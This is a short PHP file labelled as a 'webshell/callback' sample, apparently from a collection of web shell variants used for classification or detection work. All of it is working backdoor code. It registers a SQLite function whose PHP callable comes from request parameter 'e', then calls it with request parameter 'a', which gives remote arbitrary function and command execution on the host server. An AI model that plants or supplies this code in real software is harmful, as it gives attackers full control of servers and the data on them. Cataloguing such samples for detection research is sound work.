<?php
// Family: webshell/callback
// Style: SQLite user function whose PHP callable comes from the request
// Trait: $db->createFunction('f', $_REQUEST['e']) then SELECT f(...) calls the requested function with the requested argument
$e = $_REQUEST['e'];
$db = new SQLite3(':memory:');
$db->createFunction('f', $e);
$st = $db->prepare('SELECT f(?)');
$st->bindValue(1, $_REQUEST['a'], SQLITE3_TEXT);
$st->execute();
